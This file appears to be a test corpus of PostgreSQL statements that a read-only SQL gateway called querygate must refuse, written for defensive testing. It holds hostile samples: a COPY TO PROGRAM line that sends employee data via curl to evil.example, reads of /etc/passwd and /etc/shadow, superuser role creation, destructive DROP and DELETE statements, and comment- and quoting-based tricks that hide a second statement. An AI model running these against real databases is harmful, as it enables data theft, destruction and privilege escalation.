-- Corpus of statements a read-only SQL gateway must refuse, against the querygate demo HR
-- schema (public.departments, public.employees, public.events). Each would change data or
-- state, escape the read-only transaction, or cause side effects, often in disguise. Each
-- entry starts with a `-- name: <kebab-case-name>` line; the statement (or stacked statements)
-- follows. The entries must all be refused by querygate's guard. All are accepted by the
-- PostgreSQL 15 parser; the parser-differential tricks are the last entries of the file.

-- name: insert-values
INSERT INTO departments (id, name, tenant_id) VALUES (99, 'Shadow IT', 'acme')

-- name: insert-select
INSERT INTO events (employee_id, kind, tenant_id) SELECT id, 'login', tenant_id FROM employees

-- name: insert-on-conflict-update
INSERT INTO departments VALUES (1, 'Engineering', 'acme') ON CONFLICT (id) DO UPDATE SET name = EXCLUDED.name

-- name: insert-returning
INSERT INTO departments VALUES (100, 'Exfil', 'globex') RETURNING *

-- name: insert-default-values
INSERT INTO events DEFAULT VALUES

-- name: update-salary
UPDATE employees SET salary = salary * 2 WHERE id = 1

-- name: update-from-join
UPDATE employees e SET department_id = d.id FROM departments d WHERE d.name = 'Legal'

-- name: update-returning
UPDATE employees SET email = 'attacker@evil.example' WHERE tenant_id = 'acme' RETURNING ssn

-- name: delete-all
DELETE FROM events

-- name: delete-using
DELETE FROM events ev USING employees e WHERE ev.employee_id = e.id AND e.tenant_id = 'globex'

-- name: delete-where-current-of
DELETE FROM employees WHERE CURRENT OF c

-- name: merge-upsert
MERGE INTO departments d
USING (VALUES (1, 'Eng', 'acme')) AS s(id, name, tenant_id) ON d.id = s.id
WHEN MATCHED THEN UPDATE SET name = s.name
WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.name, s.tenant_id)

-- name: merge-delete
MERGE INTO employees e USING departments d ON e.department_id = d.id WHEN MATCHED THEN DELETE

-- name: with-then-merge
WITH src AS (SELECT id FROM employees) MERGE INTO events ev USING src ON ev.employee_id = src.id WHEN MATCHED THEN DELETE

-- name: truncate-table
TRUNCATE events

-- name: truncate-cascade-restart-identity
TRUNCATE TABLE employees, departments RESTART IDENTITY CASCADE

-- name: create-table
CREATE TABLE loot (ssn text)

-- name: create-table-as
CREATE TABLE loot AS SELECT name, ssn, salary FROM employees

-- name: create-temp-table-as
CREATE TEMP TABLE scratch AS SELECT * FROM employees

-- name: create-view
CREATE VIEW all_ssn AS SELECT name, ssn FROM employees

-- name: create-materialized-view
CREATE MATERIALIZED VIEW payroll AS SELECT department_id, sum(salary) FROM employees GROUP BY 1

-- name: create-index
CREATE INDEX ON employees (salary)

-- name: create-index-concurrently
CREATE INDEX CONCURRENTLY IF NOT EXISTS events_kind_idx ON events (kind)

-- name: create-function-sql
CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS $$ DELETE FROM events $$

-- name: create-or-replace-function-plpgsql
CREATE OR REPLACE FUNCTION raise_all() RETURNS int LANGUAGE plpgsql AS $body$
BEGIN
    UPDATE employees SET salary = salary * 10;
    RETURN 1;
END
$body$

-- name: create-trigger
CREATE TRIGGER audit_off BEFORE INSERT ON events FOR EACH ROW EXECUTE FUNCTION suppress_redundant_updates_trigger()

-- name: create-role-superuser
CREATE ROLE attacker LOGIN SUPERUSER PASSWORD 'hunter2'

-- name: alter-role-superuser
ALTER ROLE querygate_reader SUPERUSER

-- name: alter-role-set-search-path
ALTER ROLE querygate_reader SET search_path = evil, public

-- name: create-extension
CREATE EXTENSION IF NOT EXISTS dblink

-- name: create-schema
CREATE SCHEMA evil

-- name: alter-table-add-column
ALTER TABLE employees ADD COLUMN backdoor text

-- name: alter-table-drop-column
ALTER TABLE employees DROP COLUMN ssn

-- name: alter-table-rename
ALTER TABLE events RENAME TO events_old

-- name: alter-table-disable-rls
ALTER TABLE employees DISABLE ROW LEVEL SECURITY

-- name: alter-system
ALTER SYSTEM SET log_statement = 'none'

-- name: alter-database-set
ALTER DATABASE postgres SET default_transaction_read_only = off

-- name: drop-table
DROP TABLE events

-- name: drop-table-if-exists-cascade
DROP TABLE IF EXISTS employees, departments CASCADE

-- name: drop-schema-cascade
DROP SCHEMA public CASCADE

-- name: drop-function
DROP FUNCTION IF EXISTS wipe()

-- name: drop-role
DROP ROLE IF EXISTS querygate_reader

-- name: drop-extension
DROP EXTENSION IF EXISTS plpgsql

-- name: drop-index
DROP INDEX events_created_at_idx

-- name: drop-database
DROP DATABASE postgres

-- name: create-database
CREATE DATABASE exfil

-- name: create-sequence
CREATE SEQUENCE evil_seq

-- name: create-policy
CREATE POLICY see_all ON employees USING (true)

-- name: comment-on-table
COMMENT ON TABLE employees IS 'pwned'

-- name: grant-all-to-public
GRANT ALL ON employees TO PUBLIC

-- name: grant-server-files-role
GRANT pg_read_server_files TO querygate_reader

-- name: revoke-select
REVOKE SELECT ON departments FROM querygate_reader

-- name: alter-default-privileges
ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT ALL ON TABLES TO PUBLIC

-- name: reassign-owned
REASSIGN OWNED BY querygate_reader TO postgres

-- name: copy-to-stdout
COPY employees TO STDOUT

-- name: copy-from-stdin
COPY departments FROM STDIN

-- name: copy-query-to-file
COPY (SELECT name, ssn FROM employees) TO '/tmp/ssn.csv' WITH (FORMAT csv, HEADER)

-- name: copy-to-program
COPY employees TO PROGRAM 'curl -s -d @- http://evil.example/upload'

-- name: copy-from-program
COPY events (kind, tenant_id) FROM PROGRAM 'id'

-- name: copy-from-file
COPY departments FROM '/etc/passwd'

-- name: stacked-commit-delete
COMMIT; DELETE FROM employees

-- name: stacked-rollback-update
ROLLBACK; UPDATE employees SET salary = 1

-- name: stacked-end-drop
END; DROP TABLE events

-- name: stacked-abort-truncate
ABORT; TRUNCATE events

-- name: stacked-begin-insert
BEGIN; INSERT INTO departments VALUES (101, 'x', 'acme')

-- name: stacked-select-drop
SELECT 1; DROP TABLE events

-- name: stacked-commit-start-read-write
COMMIT; START TRANSACTION READ WRITE; DELETE FROM events

-- name: stacked-commit-and-chain
COMMIT AND CHAIN; SET TRANSACTION READ WRITE; DELETE FROM events

-- name: stacked-select-then-update-same-line
SELECT count(*) FROM employees;UPDATE employees SET salary = 0

-- name: savepoint
SAVEPOINT before_evil

-- name: prepare-transaction
PREPARE TRANSACTION 'escape'

-- name: set-transaction-read-write
SET TRANSACTION READ WRITE

-- name: set-transaction-isolation-read-write
SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE

-- name: set-transaction-read-only-off
SET transaction_read_only = off

-- name: set-session-characteristics
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE

-- name: set-default-transaction-read-only
SET default_transaction_read_only TO off

-- name: cte-delete-returning
WITH d AS (DELETE FROM events RETURNING *) SELECT * FROM d

-- name: cte-then-delete
WITH x AS (SELECT 1) DELETE FROM events

-- name: cte-update-in-select
WITH raised AS (UPDATE employees SET salary = salary + 1 RETURNING id) SELECT count(*) FROM raised

-- name: cte-insert-second-position
WITH a AS (SELECT 1 AS n), b AS (INSERT INTO departments VALUES (102, 'x', 'acme') RETURNING id) SELECT * FROM a, b

-- name: cte-then-update
WITH targets AS (SELECT id FROM employees WHERE tenant_id = 'acme')
UPDATE employees SET salary = salary + 1 WHERE id IN (SELECT id FROM targets)

-- name: cte-then-insert
WITH src AS (SELECT id, tenant_id FROM employees) INSERT INTO events (employee_id, kind, tenant_id) SELECT id, 'login', tenant_id FROM src

-- name: recursive-cte-with-delete
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3), gone AS (DELETE FROM events WHERE id IN (SELECT n FROM r) RETURNING id) SELECT * FROM gone

-- name: explain-analyze-delete
EXPLAIN ANALYZE DELETE FROM events

-- name: explain-paren-analyze-update
EXPLAIN (ANALYZE) UPDATE employees SET salary = 0

-- name: explain-analyze-select
EXPLAIN ANALYZE SELECT * FROM employees

-- name: explain-analyze-true-buffers
EXPLAIN (ANALYZE true, BUFFERS, FORMAT JSON) SELECT count(*) FROM events

-- name: explain-analyze-verbose-insert
EXPLAIN ANALYZE VERBOSE INSERT INTO departments VALUES (103, 'x', 'acme')

-- name: explain-analyze-cte-delete
EXPLAIN (ANALYZE, COSTS OFF) WITH d AS (DELETE FROM events RETURNING 1) SELECT count(*) FROM d

-- name: do-block
DO $$ BEGIN DELETE FROM events; END $$

-- name: do-language-execute
DO LANGUAGE plpgsql $body$ BEGIN EXECUTE 'DROP TABLE events'; END $body$

-- name: call-procedure
CALL refresh_payroll()

-- name: prepare-delete
PREPARE wipe AS DELETE FROM events

-- name: prepare-select
PREPARE q (int) AS SELECT * FROM employees WHERE id = $1

-- name: execute-prepared
EXECUTE wipe

-- name: deallocate-all
DEALLOCATE ALL

-- name: deallocate-prepare-name
DEALLOCATE PREPARE q

-- name: declare-cursor-with-hold
DECLARE c CURSOR WITH HOLD FOR SELECT * FROM employees

-- name: fetch-cursor
FETCH 10 FROM c

-- name: close-cursor
CLOSE c

-- name: set-search-path
SET search_path = evil, public

-- name: set-local-statement-timeout
SET LOCAL statement_timeout = 0

-- name: set-session-work-mem
SET SESSION work_mem TO '2GB'

-- name: set-time-zone
SET TIME ZONE 'Pacific/Kiritimati'

-- name: set-names-encoding
SET NAMES 'LATIN1'

-- name: set-role
SET ROLE postgres

-- name: set-session-role
SET SESSION ROLE NONE

-- name: reset-role
RESET ROLE

-- name: set-session-authorization
SET SESSION AUTHORIZATION postgres

-- name: reset-session-authorization
RESET SESSION AUTHORIZATION

-- name: reset-setting
RESET statement_timeout

-- name: reset-all
RESET ALL

-- name: discard-all
DISCARD ALL

-- name: discard-plans
DISCARD PLANS

-- name: select-set-config
SELECT set_config('search_path', 'evil', false)

-- name: select-set-config-in-where
SELECT name FROM employees WHERE set_config('statement_timeout', '0', false) IS NOT NULL

-- name: listen
LISTEN payroll_changes

-- name: notify
NOTIFY payroll_changes, 'salary leak'

-- name: unlisten-all
UNLISTEN *

-- name: lock-table-access-exclusive
LOCK TABLE employees IN ACCESS EXCLUSIVE MODE

-- name: lock-table-short
LOCK events

-- name: vacuum
VACUUM events

-- name: vacuum-full-analyze
VACUUM (FULL, ANALYZE) employees

-- name: analyze
ANALYZE employees

-- name: cluster
CLUSTER events USING events_created_at_idx

-- name: reindex
REINDEX TABLE events

-- name: refresh-materialized-view
REFRESH MATERIALIZED VIEW CONCURRENTLY payroll

-- name: checkpoint
CHECKPOINT

-- name: load-library
LOAD 'plpgsql'

-- name: select-into
SELECT * INTO loot FROM employees

-- name: select-into-temp-table
SELECT name, ssn INTO TEMP TABLE pii FROM employees WHERE tenant_id = 'acme'

-- name: select-into-unlogged
SELECT id INTO UNLOGGED TABLE ids FROM events

-- name: select-for-update
SELECT * FROM employees WHERE id = 1 FOR UPDATE

-- name: select-for-share
SELECT * FROM departments FOR SHARE

-- name: select-for-no-key-update
SELECT id FROM employees FOR NO KEY UPDATE

-- name: select-for-key-share
SELECT id FROM events FOR KEY SHARE

-- name: select-for-update-nowait-of
SELECT e.* FROM employees e JOIN departments d ON d.id = e.department_id FOR UPDATE OF e NOWAIT

-- name: select-for-update-skip-locked
SELECT id FROM events ORDER BY id LIMIT 10 FOR UPDATE SKIP LOCKED

-- name: table-for-update
TABLE employees FOR UPDATE

-- name: locking-in-subquery
SELECT * FROM (SELECT * FROM employees FOR SHARE) AS s

-- name: locking-in-in-subquery
SELECT name FROM employees WHERE id IN (SELECT employee_id FROM events FOR KEY SHARE)

-- name: locking-in-cte
WITH locked AS (SELECT * FROM employees FOR UPDATE) SELECT count(*) FROM locked

-- name: fn-dblink-exec
SELECT dblink_exec('dbname=postgres', 'DELETE FROM events')

-- name: fn-dblink-in-from
SELECT * FROM dblink('dbname=postgres', 'SELECT ssn FROM employees') AS t(ssn text)

-- name: fn-lo-import
SELECT lo_import('/etc/passwd')

-- name: fn-lo-export
SELECT lo_export(16384, '/tmp/exfil')

-- name: fn-lo-from-bytea
SELECT lo_from_bytea(0, '\x41414141'::bytea)

-- name: fn-lo-unlink
SELECT lo_unlink(16384)

-- name: fn-pg-read-file
SELECT pg_read_file('/etc/passwd')

-- name: fn-pg-read-binary-file
SELECT pg_read_binary_file('postgresql.conf')

-- name: fn-pg-ls-dir-in-from
SELECT * FROM pg_ls_dir('.') AS f

-- name: fn-pg-stat-file
SELECT pg_stat_file('postgresql.conf')

-- name: fn-pg-terminate-backend
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid() AND usename = 'postgres'

-- name: fn-pg-cancel-backend
SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid() AND usename = 'postgres'

-- name: fn-pg-reload-conf
SELECT pg_reload_conf()

-- name: fn-pg-rotate-logfile
SELECT pg_rotate_logfile()

-- name: fn-pg-advisory-lock
SELECT pg_advisory_lock(42)

-- name: fn-pg-try-advisory-lock
SELECT pg_try_advisory_lock(42)

-- name: fn-pg-advisory-xact-lock
SELECT pg_advisory_xact_lock(42)

-- name: fn-nextval
SELECT nextval('public.events_id_seq')

-- name: fn-setval
SELECT setval('public.events_id_seq', 1, false)

-- name: fn-pg-notify
SELECT pg_notify('payroll_changes', 'leak')

-- name: fn-pg-sleep
SELECT pg_sleep(3600)

-- name: fn-pg-sleep-for
SELECT pg_sleep_for('1 hour')

-- name: fn-pg-sleep-until
SELECT pg_sleep_until('2100-01-01 00:00:00+00')

-- name: fn-txid-current
SELECT txid_current()

-- name: fn-pg-current-xact-id
SELECT pg_current_xact_id()

-- name: fn-pg-switch-wal
SELECT pg_switch_wal()

-- name: fn-pg-create-restore-point
SELECT pg_create_restore_point('before-evil')

-- name: fn-pg-logical-emit-message
SELECT pg_logical_emit_message(true, 'querygate', 'payload')

-- name: fn-query-to-xml
SELECT query_to_xml('SELECT ssn FROM employees', true, false, '')

-- name: fn-table-to-xml
SELECT table_to_xml('employees', true, false, '')

-- name: fn-pg-stat-reset
SELECT pg_stat_reset()

-- name: fn-create-replication-slot
SELECT pg_create_logical_replication_slot('evil_slot', 'pgoutput')

-- name: disguise-uppercase-pg-sleep
SELECT PG_SLEEP(3600)

-- name: disguise-mixed-case-set-config
SELECT Pg_Catalog.Set_Config('search_path', 'evil', false)

-- name: disguise-quoted-pg-sleep
SELECT "pg_sleep"(10)

-- name: disguise-schema-qualified-read-file
SELECT pg_catalog.pg_read_file('/etc/passwd', 0, 1000)

-- name: disguise-quoted-schema-nextval
SELECT "pg_catalog"."nextval"('public.events_id_seq')

-- name: disguise-quoted-schema-advisory-lock
SELECT "pg_catalog".pg_advisory_lock(1)

-- name: disguise-in-scalar-subquery
SELECT name FROM employees WHERE id = (SELECT 1 FROM pg_sleep(10))

-- name: disguise-in-cte
WITH s AS (SELECT pg_sleep(10)) SELECT * FROM s

-- name: disguise-in-case
SELECT name, CASE WHEN salary > 0 THEN pg_sleep(1) END FROM employees

-- name: disguise-in-order-by
SELECT name FROM employees ORDER BY pg_try_advisory_lock(id)

-- name: disguise-in-lateral-from
SELECT e.name, f.contents FROM employees e, LATERAL pg_read_file('/etc/passwd') AS f(contents)

-- name: disguise-in-where
SELECT * FROM events WHERE pg_try_advisory_lock(id)

-- name: disguise-in-having
SELECT tenant_id FROM employees GROUP BY tenant_id HAVING pg_try_advisory_lock(count(*))

-- name: disguise-in-join-on
SELECT d.name FROM departments d JOIN pg_ls_dir('/') AS f(name) ON f.name = d.name

-- name: disguise-nested-function-argument
SELECT length(pg_read_file('/etc/passwd'))

-- name: disguise-in-values
VALUES (nextval('public.events_id_seq'))

-- name: disguise-in-exists
SELECT count(*) FROM employees WHERE EXISTS (SELECT pg_notify('payroll', name))

-- name: disguise-in-union-branch
SELECT name FROM departments UNION ALL SELECT pg_read_file('/etc/hostname')

-- name: disguise-in-filter-clause
SELECT count(*) FILTER (WHERE pg_try_advisory_lock(1)) FROM employees

-- name: disguise-in-rows-from
SELECT * FROM ROWS FROM (pg_ls_dir('.'), generate_series(1, 3)) AS t(f, n)

-- name: disguise-in-cast
SELECT pg_sleep(10)::text

-- name: disguise-in-limit
SELECT * FROM employees LIMIT (SELECT 1 FROM pg_sleep(10))

-- name: disguise-in-jsonb-build
SELECT jsonb_build_object('id', nextval('public.events_id_seq'))

-- name: disguise-in-window-partition
SELECT count(*) OVER (PARTITION BY pg_try_advisory_lock(id)) FROM employees

-- name: disguise-in-recursive-cte
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r, pg_sleep(1) WHERE n < 5) SELECT * FROM r

-- name: disguise-schema-qualified-lo-import
SELECT pg_catalog.lo_import('/etc/shadow')

-- name: disguise-in-explain
EXPLAIN ANALYZE SELECT pg_sleep(10)

-- name: disguise-multiline-whitespace
SELECT
    pg_cancel_backend
    (
        pg_backend_pid()
    )

-- name: disguise-commented-call
SELECT /* harmless */ pg_sleep /* really */ (3600)

-- name: trick-nested-block-comment-semicolon
SELECT 1 /* outer /* inner */ still comment */; DELETE FROM events

-- name: trick-line-comment-marker-in-block-comment
SELECT 1 /* -- */; DELETE FROM events

-- name: trick-block-comment-around-semicolon
SELECT 1 /* ; */ ; DROP TABLE events /* ; */

-- name: trick-dollar-tag-hides-double-dollar
SELECT $q$ $$ $q$; DELETE FROM events; SELECT $$ x $$

-- name: trick-dollar-sign-in-identifiers
SELECT 1 AS x$q$; DELETE FROM events; SELECT 2 AS y$q$

-- name: trick-e-string-escaped-quote
SELECT E'\'';DELETE FROM events;--'

-- name: trick-e-string-trailing-backslash
SELECT E'\\';DELETE FROM events;--'

-- name: trick-uescape-literal-backslash
SELECT U&'\' UESCAPE '!'; DELETE FROM events; --'

-- name: trick-carriage-return-ends-line-comment
SELECT 1 -- just a note; DELETE FROM events

-- name: trick-form-feed-after-semicolon
SELECT 1;DELETE FROM events

-- name: trick-semicolon-on-own-line
SELECT 1
;
	DELETE FROM events

-- name: trick-quoted-identifier-semicolon
SELECT 1 AS ";"""; DELETE FROM events

-- name: trick-string-semicolon-then-update
SELECT 'a;b'; UPDATE employees SET salary = 0

-- name: trick-many-statements-one-line
SELECT 1;SELECT 2;DELETE FROM events;SELECT 3
